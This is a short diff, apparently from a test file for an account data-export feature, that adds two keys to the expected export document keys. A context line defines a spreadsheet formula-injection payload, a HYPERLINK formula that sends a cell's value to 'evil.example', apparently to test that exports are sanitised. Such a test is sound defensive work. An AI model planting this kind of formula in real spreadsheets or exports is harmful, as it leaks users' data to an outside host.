@@ -41,7 +41,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 DOCUMENT_KEYS = {"exported_at", "account", "families", "entries", "invitations_sent",
                  "data_exports", "saved_items", "email_preferences", "email_suppression",
                  "inbox_messages", "deliveries", "email_clicks", "campaign_sends", "journeys",
-                 "sign_ins", "account_emails", "interactions", "shop_order_lines_unmatched"}
+                 "sign_ins", "account_emails", "interactions", "shop_order_lines_unmatched",
+                 "contact_history", "customer_scores"}
 
 
 def join(session, owner, family, user, role, relationship="other"):
